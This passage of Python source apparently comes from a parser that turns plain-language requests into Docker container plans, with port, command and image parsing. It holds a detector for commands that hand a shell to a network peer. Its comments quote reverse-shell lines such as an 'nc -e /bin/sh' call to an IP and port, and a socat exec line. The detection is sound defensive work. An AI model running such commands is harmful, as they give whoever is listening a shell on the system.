    for kind, path, read_only in media_folders(clause.text):   # "music is in /mnt/music (read only please)": /music
        if path not in {v.source for v in volumes} and path != '/':
            volumes.append(VolumeMapping(source=path, target=kind, read_only=read_only))
    if re.search(r'\bdocker\s*socket\b|docker\.sock', clause.lower):
        volumes.append(VolumeMapping(source='/var/run/docker.sock', target='/var/run/docker.sock'))
    bare = [int(n) for m in re.finditer(
        r'\b(?:on|at|exposed\s+on|published\s+on|reachable\s+on|listening\s+on|mapped\s+to|exposing|'
        r'(?<=\bport\s)(?:is|should\s+be|must\s+be|will\s+be)|'   # "…, the port is 5432"
        r'publishing|publish|expose|forwarded\s+(?:to|from))\s+(?:localhost:|host\s+)?(?:ports?\s+)?(\d{2,5})'
        r'(?:\s*(?:,|and|&)\s*(?:port\s+)?(\d{2,5}))?\b(?!\s*(?:replicas?|copies|instances|seconds?|minutes?))',
        clause.port_words.lower()) for n in m.groups() if n]   # "ui on 8025 smtp on 1025", "on 8025 and 1025"
    # "run traefik/whoami :8222", "nginx:1.27 -> 8091"
    colon = re.search(r'(?:^|\s):(\d{2,5})\b|^[\w./:-]+(?:\s*(?:->|→|=>)|\s+to)\s*(?:port\s+)?(\d{2,5})\s*$', clause.raw)
    after_image = re.search(rf'(?<![\w.-]){re.escape(repo)}(?::[\w.-]+)?\s+(?:port\s+)?(\d{{4,5}})\b(?![.:/\w-])'
                            r'(?!\s*(?:replicas?|copies|instances|seconds?|minutes?|mb|gb|x)\b)', clause.raw,
                            re.IGNORECASE) if repo and not colon and not clause.ports else None
    if after_image and 1024 <= int(after_image.group(1)) < 65536 and not bare:   # hurried: "run nginx 8089", "redis:7 6380"
        bare = [int(after_image.group(1))]
    bare_ports = list(dict.fromkeys(bare)) or ([int(colon.group(1) or colon.group(2))] if colon else [])
    known = {q.host for q in clause.ports} | {q.container for q in clause.ports}
    named_ports = [int(m.group(1)) for m in re.finditer(
        r'\b(?:ui|web|smtp|http|https|api|admin|dashboard|console|dns|ssh|imap|pop3?|metrics|grpc|mqtt|websockets?|amqp|ldap)\s+'
        r'(?:(?:on|at)\s+)?(?:port\s+)?(\d{2,5})\b', clause.port_words.lower())]
    spoken_ports = list(clause.ports) + [PortMapping(host=p) for p in named_ports if 0 < p < 65536 and p not in known] \
        if clause.ports else [PortMapping(host=p) for p in list(dict.fromkeys(bare_ports + named_ports)) if 0 < p < 65536]
    # ↑ "web UI on port 8025 and smtp on 1025", "smtp 1025 and ui 8025, same ports on the host"
    refused = {int(m.group(1)) for m in NOT_THIS_PORT.finditer(clause.raw)}   # "don't put it on port 80, use 8180 instead"
    if refused and any(p.host not in refused for p in spoken_ports):
        spoken_ports = [p for p in spoken_ports if p.host not in refused]
    ports = []
    local = LOCAL_ONLY.search(clause.lower)   # "only reachable from localhost", "bound to 127.0.0.1"
    several = sum(1 for p in spoken_ports if not p.container) > 1   # "caddy with ports 80 and 443": each to itself
    listens = KNOWN_IMAGES.get(repo) or state.image_port(image or '') or LISTENS.get(repo)
    for port in spoken_ports:
        container_port = port.container or (port.host if several else None) or listens or port.host
        host_port = port.host
        if listens and host_port == listens and container_port != listens and re.search(
                rf'\b{container_port}\s+(?:mapped|map|to|->|forwarded)\b', clause.raw.lower()):
            host_port, container_port = container_port, listens   # "postgres … port 55432 mapped to 5432": 5432 inside
        ports.append(PortMapping(host=host_port, container=container_port, protocol=port.protocol,
                                 host_ip=port.host_ip or ('127.0.0.1' if local else None)))
    if image is None:
        if ports and all(p.container in (80, 443, 8080) for p in ports) and not clause.has('it', 'this', 'that', 'them'):
            image = 'nginx:alpine'   # it listens on 80 where no container port was said
            ports = [PortMapping(host=p.host, container=said.container or 80, protocol=p.protocol, host_ip=p.host_ip)
                     for p, said in zip(ports, spoken_ports, strict=True)]
            out.warnings.append('No image was named: nginx:alpine is proposed for a web port; edit the plan to change it.')
        else:
            asks = [what for what, wanted in (('privileged mode', privileged), ("the host's network", host_network),
                                              ("the host's processes", host_pid),
                                              ("the host's filesystem or Docker socket",
                                               any(v.source == '/' or v.source.endswith('docker.sock') for v in volumes)))
                    if wanted]
            if asks:
                out.warnings.append(f'A container with {" and ".join(asks)} controls the host: the policy refuses it '
                                    'unless allow_privileged is on.')
            out.questions.append(Question(text='Which image should the container run (for example nginx, redis:7, '
                                               'postgres:16)?'))
            return previous
    command = _command(clause) or _command_after_image(clause) or _flags_said(clause)
    spoken, spoken_command = spoken_settings(image, clause)
    env = {**spoken, **{k: v for k, v in clause.env.items() if not (k in GENERIC_KEYS and spoken)}, **{
        k: v for k, v in env_in_words(clause.raw).items() if k not in clause.env}}
    command = command or spoken_command
    shell = _shell_handed_over(command or [])
    if shell:   # "run busybox with command `nc -e /bin/sh 10.0.0.5 4444`": a shell for whoever connects
        out.questions.append(Question(text=f'Not planned: the command hands a shell to another program ({shell}), which '
                                           'gives whoever is at its other end a shell in the container. Write the service '
                                           'in a stack\'s compose file instead, where you can see what it runs.'))
        return previous
    said_policy = next((env.pop(k) for k in list(env) if re.fullmatch(r'restart(?:[_-]?policy)?', k, re.IGNORECASE)), '')
    if name and state.container(name) is not None:   # "create an nginx container called docs" where docs runs already
        free = next(f'{name}-{n}' for n in range(2, 100) if state.container(f'{name}-{n}') is None)
        out.questions.append(Question(text=f'A container called {name} exists already: which name should the new one have?',
                                      choices=[f'run {image} named {free}', f'show the status of {name}']))
        return previous
    action = RunAction(image=image, name=name, ports=ports, env=env, volumes=volumes, command=command,
                       restart=restart_said(clause.lower, said_policy, always_alone=True), privileged=privileged,
                       network_mode='host' if host_network else None,
                       pid='host' if host_pid else None)
    add_action(out, action, f'run a new container from {image}' + (f' named {name}' if name else '')
         + ''.join(f', port {p.host_ip + ":" if p.host_ip else ""}{p.host}→{p.container}' for p in ports)
         + (f', {len(action.env)} variables' if action.env else ''))
    return Resolution(containers=[name] if name else [])


# a command said as the next step of a container just planned: "… mount /srv/app at /app and run "npm run build"",
# "… and execute 'ls -la /data' in it": what the new container runs, not a command in one that runs already
NEXT_COMMAND = re.compile(r"""^\s*(?:then\s+|and\s+)*(?:(?:have|make|let)\s+it\s+)?(?:run|execute|exec)\s+"""
                          r"""(?:the\s+command\s+)?(?P<q>"[^"]{1,300}"|'[^']{1,300}')"""
                          r"""(?:\s+(?:in|inside)\s+(?:it|there|that(?:\s+container)?|the\s+(?:new\s+)?container))?\s*[.!]*\s*$""",
                          re.IGNORECASE)


def command_of_the_new(clause: Clause, out: Parsed) -> bool:
    """Whether ``clause`` gave the container planned just before it its command (see NEXT_COMMAND)."""
    said = NEXT_COMMAND.match(clause.raw)
    last = out.actions[-1] if out.actions else None
    if said is None or not isinstance(last, RunAction) or last.command:
        return False
    try:
        argv = shlex.split(said.group('q')[1:-1])
    except ValueError:   # an unbalanced quote inside
        return False
    if not argv or len(argv) > 50:
        return False
    out.actions[-1] = last.model_copy(update={'command': argv})
    out.explanations[-1] += f', running {" ".join(argv)}'
    return True


DENIED_BEFORE = re.compile(r"\b(?:not|no|never|without|don'?t|do\s+not|non|nor)\b(?:\s+[\w'-]+){0,4}\s*$")


def _asked_for(power: str, text: str) -> bool:
    """Whether a run asks for a power over the host, said without a denial just before it ("without privileged
    mode", "not on the host network": not asked for)."""
    return any(not DENIED_BEFORE.search(text[:m.start()]) for m in re.finditer(power, text))


# "run nginx as a container", "run minio with a named volume"
NOT_A_NAME = {'a', 'the', 'an', 'container', 'new', 'one', 'daemon', 'service', 'volume', 'volumes', 'its', 'their', 'my', 'our',
              'your', 'his', 'her', 'well', 'root', 'soon', 'usual', 'before', 'always'}
# programs that read commands of their own: a container running one runs whatever it is fed
SHELL_PROGRAMS = {'sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'csh', 'tcsh', 'fish', 'pwsh', 'powershell', 'cmd', 'cmd.exe'}


def _shell_handed_over(command: list[str]) -> str | None:
    """The shell a command gives to another program ("nc -e /bin/sh host 4444", "socat tcp:h:1 exec:bash")
    or to a network socket (/dev/tcp/…): None for a command that is itself a shell ("sh -c 'sleep 300'")
    or runs none."""
    def shell_in(word: str) -> bool:
        return any(part.rsplit('/', 1)[-1].lower() in SHELL_PROGRAMS for part in re.split(r'[:=,]', word))
    if any('/dev/tcp/' in w or '/dev/udp/' in w for w in command):
        return next(w for w in command if '/dev/tcp/' in w or '/dev/udp/' in w)
    first = command[0].rsplit('/', 1)[-1].lower() if command else ''
    if first in SHELL_PROGRAMS:
        return None
    return next((w for w in command[1:] if shell_in(w)), None)


def _name_before_image(clause: Clause, image: str | None) -> str | None:
    """"create cache-test from the caddy image", "new container demo-1 running nginx:1.27": the word
    between the request and the image it is made from is the new container's name."""
    if not image:
        return None
    said = image if image in clause.raw else image.split(':')[0].rsplit('/', 1)[-1]
    found = re.search(r'\b(?:create|make|start|launch|run|spin\s+up|container)\s+(?:an?\s+)?(?:new\s+)?(?:container\s+)?'
                      r'(?P<name>[a-z0-9][a-z0-9_.-]*)\s+(?:from|using|off|based\s+on|running|out\s+of)\s+(?:the\s+|an?\s+)?'
                      rf'(?:image\s+)?{re.escape(said)}(?![\w.:/-])', clause.raw, re.IGNORECASE)
    name = found.group('name') if found else None
    if name is None or name.lower() in FILLER or name.lower() in ('container', 'new', 'one', 'it', 'something', 'instance') \
            or image.lower().startswith(name.lower()):
        return None
    return name


# a port for this machine only: "only reachable from localhost", "bound to 127.0.0.1", "listening on localhost only",
# "not exposed to the network"
LOCAL_ONLY = re.compile(r"\b(?:bound|bind|binding|listen\w*|reachable|accessible|available|exposed|published|open)\s+(?:only\s+)?"
                        r"(?:to|on|from|at)\s+(?:the\s+)?(?:localhost|127\.0\.0\.1|loopback|this\s+(?:machine|host|box|server))\b|"
                        r"\b(?:localhost|loopback)[\s-]+only\b|\bonly\s+(?:on|from|to)\s+(?:localhost|127\.0\.0\.1|loopback)\b|"
                        r"\bnot\s+(?:be\s+)?(?:exposed|published|reachable|accessible|open)\s+(?:to\s+the\s+(?:network|lan|outside|"
                        r"internet|world)|outside|publicly|externally)")


ADDRESS_SAID = re.compile(r'(?:https?://|git@|ssh://)\S*$', re.IGNORECASE)   # "git@host:x" is an address, no e-mail


# docker run flags that reach into the host and that a run plan has no field for
HOST_POWERS = re.compile(r'(?<!\S)--(cap-add|device|security-opt|ipc|uts|userns|cgroupns|cgroup-parent|device-cgroup-rule|'
                         r'gpus)\b', re.IGNORECASE)
HOST_POWERS_SAID = re.compile(HOST_POWERS.pattern + r'(?:=\S+|\s+(?!-)\S+)?', re.IGNORECASE)
# programs a container is commonly run with, said right after the image ("run alpine sleep infinity")
PROGRAMS = frozenset({'sleep', 'sh', 'bash', 'ash', 'echo', 'cat', 'tail', 'ping', 'top', 'env', 'printenv', 'ls', 'watch',
                      'yes', 'true', 'nc', 'python', 'python3', 'node', 'date', 'hostname', 'id', 'uname', 'whoami', 'df',
                      'free', 'ps', 'wget', 'curl', 'dig', 'nslookup', 'traceroute', 'iperf3', 'stress', 'httpd'})
COURTESY_AFTER = re.compile(r'(?:[\s,;-]+(?:please|pls|plz|thanks|thx|ty|now|asap|quick|quickly|fast|rn))+\s*[.!]*\s*$',
                            re.IGNORECASE)


def _program_after_image(clause: Clause) -> list[str] | None:
    """"run alpine sleep infinity", "run alpine TZ=UTC DEBUG=1 sleep infinity", "alpine sleep 1000": a well-known
    program said right after the image (past its variables) is the command, as on a docker command line."""
    image = clause.images[0] if clause.images else image_word(clause.words)
    if not image:
        return None
    said = re.match(r'^\s*(?:(?:please|pls|can\s+you|could\s+you)\s+)*(?:(?:run|start|launch|spin\s+up)\s+)?(?:an?\s+)?'
                    + re.escape(image) + r'(?:\s+container)?\s+(?:[A-Za-z_][A-Za-z0-9_]*=\S+\s+)*'
                    r'(?P<cmd>(?P<program>[a-z][\w.-]*)(?:\s.*)?)$', clause.raw, re.IGNORECASE)
    if said is None or said.group('program').lower() not in PROGRAMS:
        return None
    try:
        return shlex.split(COURTESY_AFTER.sub('', said.group('cmd')).rstrip(' ,;'))[:20] or None
    except ValueError:   # an unbalanced quote
        return None


def _command_after_image(clause: Clause) -> list[str] | None:
    """"docker run -d redis:7 redis-server --requirepass x": what follows the image is its command."""
    program = _program_after_image(clause)
    if program:
        return program
    if not re.match(r'^\s*docker\s+run\b', clause.raw, re.IGNORECASE) and not (
            clause.images and re.match(r'^\s*run\s+(?:-\S+(?:\s+[^-\s]\S*)?\s+)*' + re.escape(clause.images[0]) + r'\s',
                                       clause.raw + ' ', re.IGNORECASE)):
        return None   # only what reads like a docker run command line: "run busybox privileged" is an option
    if clause.images:
        after = clause.raw.split(clause.images[0], 1)[1].strip()
    else:   # "docker run -d --name x busybox sleep 60": the last option is followed by the image, then its command
        image = image_word(clause.words)
        said = re.search(rf'(?:^|\s)-?\S*\s+({re.escape(image.split(":")[0])})\s+(.+)$', clause.raw, re.IGNORECASE) \
            if image and ':' not in image else None
        if said is None or not re.match(r'^\s*(?:docker\s+)?run\s+(?:-\S+(?:\s+[^-\s]\S*)?\s+)*$',
                                        clause.raw[:said.start(1)], re.IGNORECASE):
            return None
        after = said.group(2).strip()
    try:
        words = shlex.split(after)   # "sh -c 'sleep 10'": three words, the last one quoted
    except ValueError:   # an unbalanced quote
        words = after.split()
    if words and words[0].lower() == 'container' and (len(words) == 1 or '=' in words[1] or words[1].lower() in (
            'name', 'named', 'called', 'ports', 'port', 'with', 'on')):
        return None   # "run nginx:1.27 container name=status-page ports 8443->443": settings
    if not words or '=' in words[0] or words[0].lower().rstrip(',') in (
            'with', 'on', 'and', 'named', 'called', 'as', 'at', 'in', 'using', 'please', 'for', 'name', 'tag', 'version',
            'image', 'env', 'volume', 'volumes', 'mount', 'network', 'net', 'user', 'expose', 'publish',
                                         'then', 'exposed', 'listening', 'mapped', 'publishing', 'but', 'that', 'which',
                                         'restart', 'port', 'ports', 'privileged', 'detached', 'interactively', 'in',
                                         'from', 'to', 'so', 'because', 'if', 'until', 'without', 'again'):
        return None
    if len(words[0]) > 4 and words[0].lower().endswith('ing') and words[0].lower() in DICTIONARY:
        return None   # "run postgres:16 keeping its data in the pgdata volume": prose about it, never its command
    docker_line = re.match(r'^\s*docker\s+run\b', clause.raw, re.IGNORECASE)
    flag = re.fullmatch(r'--?[a-z][\w-]*(?:=\S+)?', words[0]) and (docker_line or not _docker_flags(words))
    if flag and not docker_line:   # "run redis:7 --appendonly yes on port 6380": the flags, up to the prose after them
        cut = next((i for i, w in enumerate(words) if w.lower().rstrip(',;.') in PROSE_AFTER_FLAGS or w[-1] in ',;'), len(words))
        words = words[:cut + (1 if cut < len(words) and words[cut][-1] in ',;' else 0)]
        words[-1:] = [words[-1].rstrip(',;')] if words else []
    return words[:20] if re.fullmatch(r'[a-z][\w./-]*', words[0]) or flag else None   # "… acme/batch:4 --job reindex"


PROSE_AFTER_FLAGS = frozenset({'on', 'with', 'and', 'named', 'called', 'as', 'port', 'ports', 'at', 'please', 'then', 'but',
                               'restart', 'restarting', 'in', 'so', 'for', 'using', 'mapped', 'exposed', 'listening', 'pls'})


# what docker run itself takes: said after the image in prose ("run nginx --name web -p 80:80") they are the run's
# settings, never the container's arguments
DOCKER_RUN_FLAGS = frozenset({
    'name', 'restart', 'rm', 'd', 'detach', 'p', 'publish', 'publish-all', 'e', 'env', 'env-file', 'v', 'volume', 'mount',
    'network', 'net', 'network-alias', 'hostname', 'h', 'u', 'user', 'w', 'workdir', 'entrypoint', 'm', 'memory', 'cpus',
    'cpu-shares', 'l', 'label', 'privileged', 'pid', 'init', 'i', 't', 'it', 'ti', 'interactive', 'tty', 'read-only', 'tmpfs',
    'ulimit', 'platform', 'pull', 'expose', 'link', 'add-host', 'dns', 'log-driver', 'log-opt', 'health-cmd', 'stop-signal',
    'shm-size', 'cap-add', 'cap-drop', 'device', 'security-opt', 'gpus', 'runtime', 'sysctl', 'group-add', 'memory-swap'})
# arguments for the program in the image, said apart: "(--appendonly yes)", "with the flags --appendonly yes --maxmemory 256mb"
_FLAG = r'--?[a-z][\w-]*(?:=[^\s,;()]+)?(?:\s+(?!-|(?:on|and|with|as|named|called|port|ports|at|then|but|please)\b)[^\s,;()]+)*'
FLAGS_SAID = re.compile(rf'\((?P<p>{_FLAG}(?:\s+{_FLAG})*)\)|'
                        r'\b(?:with|pass(?:ing)?|add(?:ing)?|using)\s+(?:the\s+|these\s+)?(?:extra\s+)?(?:flags?|args?|arguments?|'
                        rf'options?|parameters?|switch(?:es)?)\s*:?\s+(?P<w>{_FLAG}(?:\s+{_FLAG})*)', re.IGNORECASE)


def _docker_flags(words: list[str]) -> bool:
    """Whether ``words`` hold any of docker run's own flags."""
    return any(w.startswith('-') and w.lstrip('-').split('=', 1)[0].lower() in DOCKER_RUN_FLAGS for w in words)


def _flags_said(clause: Clause) -> list[str] | None:
    said = FLAGS_SAID.search(clause.raw)
    if said is None:
        return None
    words = (said.group('p') or said.group('w')).split()
    return None if _docker_flags(words) else words[:20]


def _command(clause: Clause) -> list[str] | None:
    given = re.search(r'\bwith\s+(?:the\s+command\s+)?["\']([a-z][\w.-]*(?:\s+[^"\']+)+)["\']', clause.raw)
    if given:   # 'run python:3.12-slim with "python -m http.server 8000"': a quoted command line
        return given.group(1).split()
    match = re.search(r'\b(?:command|cmd|running|that runs|to run|executing)\s*[:=]?\s+(.+)$', clause.raw, re.IGNORECASE)
    if match and clause.quoted:
        return clause.quoted[-1].split() if len(clause.quoted) > 0 and clause.quoted[-1] in match.group(1) else None
    bare = re.search(r'\bcontainer\s+(?:running|that runs|to run|executing)\s+([a-z][\w./-]*(?:\s+[\w./:=-]+){0,5})\s*$',
                     clause.raw, re.IGNORECASE)   # "an alpine container running sleep 3600"
    if bare:
        return bare.group(1).split()
    known = re.search(r'\b(?:running|that\s+runs|to\s+run|executing|which\s+runs)\s+(?P<program>[a-z][\w.-]*)'
                      r'(?P<args>(?:\s+[\w./:=@%-]+){0,5})\s*(?:[,;]|$)', clause.raw, re.IGNORECASE)
    if known and known.group('program').lower() in PROGRAMS:   # "busybox named dns-test running nslookup example.org"
        return [known.group('program'), *known.group('args').split()]
    does = re.search(r'\b(?:that|which|to|and)\s+(?:just\s+|only\s+)?(?P<verb>pings?|curls?|digs?|nslookups?|traceroutes?|'
                     r'wgets?)\s+(?P<args>[\w./:@-]+(?:\s+[\w./:=@-]+){0,3}?)\s*(?:[,;.]|$)', clause.raw, re.IGNORECASE)
    if does:   # "an alpine container named nettest that pings db-1": ping db-1
        verb = does.group('verb').lower()
        return [verb[:-1] if verb.endswith('s') and verb[:-1] in PROGRAMS else verb, *does.group('args').split()]
    said = re.search(r'\b(?:(?:with|and)\s+)?(?:the\s+)?(?:command|cmd)\s*[:=]?\s+'
                     r'(?!line\b)([a-z][\w./-]*(?:\s+(?:[\w./:=%@+-]+|\'\'|""|\'[^\'\s]+\'|"[^"\s]+")){0,7}?)\s*(?:[,;)]|$)|'
                     r'\bthat\s+(?:just\s+|only\s+)?(?:runs|executes|does)\s+["\']?([a-z][\w./-]*(?:\s+[\w./:=-]+){0,5}?)["\']?'
                     r'\s*(?:[,;]|$)|'
                     r'\b(?:and\s+)?(?:have|make|let)\s+it\s+(?:just\s+|only\s+)?(?:run|print|execute|do)\s+["\']?'
                     r'([a-z][\w./-]*(?:\s+[\w./:=-]+){0,5}?)["\']?\s*(?:[,;]|$)',
                     clause.raw, re.IGNORECASE)   # "with the command sleep infinity", "that just runs echo hello"
    if said:   # "(command start-dev)", "command redis-server --save '' --appendonly no"
        line = str(said.group(1) or said.group(2) or said.group(3))
        try:
            return shlex.split(line)
        except ValueError:
            return line.split()
    told = re.search(r'\b(?:have|make|let|tell)\s+it\s+(?P<cmd>(?P<program>[a-z][\w.-]*)(?:\s+[\w./:=-]+){0,5}?)\s*(?:[,;.]|$)|'
                     r'\((?P<cmd2>(?P<program2>[a-z][\w.-]*)(?:\s+[\w./:=-]+){0,5})\)', clause.raw, re.IGNORECASE)
    program = told and (told.group('program') or told.group('program2')).lower()
    if told and program in PROGRAMS:   # "run busybox and have it echo hello", "… that sleeps forever (sleep infinity)"
        return str(told.group('cmd') or told.group('cmd2')).split()
    kept = re.search(r'\bwith\s+(?P<cmd>(?P<program>sleep|sh|bash|ash|echo|tail|ping|top|watch|nc|python3?|node|wget|curl|'
                     r'dig|nslookup|traceroute|iperf3|stress)(?:\s+(?!(?:named|called|as|on|and|with|port|please|pls)\b)[\w./:=@-]+)'
                     r'{1,5}?)(?=\s*(?:[,;.]|$)|\s+(?:named|called|as|on|and|with|port|please|pls)\b)', clause.raw, re.IGNORECASE)
    if kept:   # "keep it running with sleep infinity", "an alpine with tail -f /dev/null": that program, as its command
        return kept.group('cmd').split()
    forever = re.search(r'\b(?:that|which|and|to|just)\s+(?:just\s+)?sleeps?\s+(?:forever|for\s+ever|indefinitely)\b', clause.raw,
                        re.IGNORECASE)
    return ['sleep', 'infinity'] if forever else None   # "an alpine that just sleeps forever"


def parse_pull(clause: Clause, state: State, out: Parsed, words: list[str], verb: str,
          previous: Resolution | None) -> Resolution | None:
    if len(clause.images) > 1:   # "pull redis:7 and nginx:1.27": each of them, never only the first
        for each in dict.fromkeys(clause.images):
            add_action(out, PullAction(image=each), f'pull {each}')
        return previous
    image = clause.images[0] if clause.images else None
    stacks = [w for w in dict.fromkeys(words) if w in state.stacks]
    if image is not None and stacks:   # "pull redis:7 and the crm images": the image, and the stack's images too
        add_action(out, PullAction(image=image), f'pull {image}')
        for stack in stacks:
            add_action(out, StackAction(op='pull', stack=stack), f'pull the images of stack {stack}')
        return Resolution(stack=stacks[0]) if len(stacks) == 1 else previous
    if image is None and len(stacks) == 1 and not [w for w in names_in(words, state) if w not in stacks]:
        add_action(out, StackAction(op='pull', stack=stacks[0]), f'pull the images of stack {stacks[0]}')
        return Resolution(stack=stacks[0])
    if image is None and IMAGE_OF.search(clause.lower):   # "re-pull the image backup runs on", "adminer's image"
        named = [w for w in words if w not in IMAGE_OF_WORDS]
        known = image_word(named)
        if known and not any(is_live(w, state) for w in named):   # "get the image for memcached": that image, nothing here
            add_action(out, PullAction(image=known), f'pull {known}')
            return previous
        template = next((t for t in state.templates if t.id in named and not is_live(t.id, state)), None)
        if template is not None and template.image_ports and not any(is_live(w, state) for w in named):
            for repo in dict.fromkeys(repo for repo, _ in template.image_ports):   # "the image for gitea" with no gitea here
                add_action(out, PullAction(image=repo), f'pull {repo}')         # yet: the images its template runs
            return previous
        target = find_targets(clause, state, out, [w for w in words if w not in IMAGE_OF_WORDS], previous,
                              verb='pull the image of')
        if target is None:
            return None
        names = list(target.containers) or [b.name for s in target.all_stacks for b in state.stacks.get(s, ())]
        for img in sorted({b.image for n in names if (b := state.container(n))}):
            add_action(out, PullAction(image=img), f'pull {img}')   # exactly what it was created from
        return target
    image = image or image_word(words)
    if image and '/' not in image and ':' not in image:   # "the latest grafana image": the grafana/grafana that runs here
        repositories = {repository(b.image)
                        for b in state.containers if b.repo == image}
        if len(repositories) == 1:
            image = next(iter(repositories))
        else:
            image = template_repository(image, state) or image
    if image is None:   # "pull chat and billing": every stack or container named, never only the first
        target = find_targets(clause, state, out, words, previous, verb='pull the image of', prefer_stack=True)
        if target is None:
            return None
        for stack in target.all_stacks:
            add_action(out, StackAction(op='pull', stack=stack), f'pull the images of stack {stack}')
        if target.stack:
            return target
        images = sorted({b.image for n in target.containers if (b := state.container(n))})
        for img in images:
            add_action(out, PullAction(image=img), f'pull {img}')
        return target
    add_action(out, PullAction(image=image), f'pull {image}')
    return previous


def template_repository(image: str, state: State) -> str | None:
    """The repository a template runs for a bare name that is the last part of it ("grafana" is
    grafana/grafana, "prometheus" prom/prometheus): Docker Hub has no library image of that name."""
    found = {repo for t in state.templates for repo, _ in t.image_ports if '/' in repo and repo.rsplit('/', 1)[1] == image}
    return found.pop() if len(found) == 1 else None


IMAGE_OF = re.compile(r"'s\s+image\b|\bimage\s+(?:of|behind|"
                      r"for(?!\s+(?:me|us|you|later|now|tomorrow|tonight|the\s+(?:weekend|night|morning))\b)|"
                      r"used\s+by|that\s+\S+\s+(?:uses|runs))\b|"
                      r"\bimage\s+[\w.-]+\s+(?:runs|is\s+running|uses|was\s+(?:created|made|built)|came)\b|"
                      r"\bimages?\s+(?:that\s+|which\s+)?[\w.-]+\s+(?:runs|is\s+running)\s+(?:on|from)\b")
IMAGE_OF_WORDS = {'image', 'images', 'runs', 'running', 'behind', 'created', 'made', 'built', 'came', 'uses', 'used',
                  'exact', 'again', 'disk', 'on', 'from', 'was', 'is', 're-pull', 'repull', 'pruned', 'got', 'it'}


def parse_create(clause: Clause, state: State, out: Parsed, words: list[str], verb: str,
            previous: Resolution | None) -> Resolution | None:
    templates, score = match_template(words, clause.lower, state.templates)
    image = clause.images[0] if clause.images else image_word(words)
    if clause.has('stack', 'stacks') and score >= 5 or (score >= 12 and not clause.has('container') and image is None):
        return parse_deploy(clause, state, out, words, 'deploy', previous)
    if image or clause.ports or clause.has('container'):
        return parse_run(clause, state, out, words, 'run', previous)
    return parse_deploy(clause, state, out, words, 'deploy', previous)
